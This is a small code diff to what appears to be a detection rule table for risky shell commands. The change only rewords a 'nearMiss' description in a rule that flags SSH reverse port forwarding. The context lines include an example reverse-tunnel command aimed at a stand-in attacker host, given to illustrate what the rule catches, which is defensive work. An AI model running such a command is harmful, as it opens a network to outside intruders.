@@ -101,7 +101,7 @@ export const REMOTE_PROGRAMS = {
     severity: "high",
     catches: "ssh with ports that are forwarded, which lets others into the network",
     example: "ssh -fN -R 2222:localhost:22 u@evil.example",
-    nearMiss: "ssh -p 22 host; ssh -L is for tunnels",
+    nearMiss: "ssh -p 22 host, and ssh -L is for tunnels",
     at: ["ssh", "autossh", "plink"].map(word),
     gate: "separator",
     test: isTunnel,
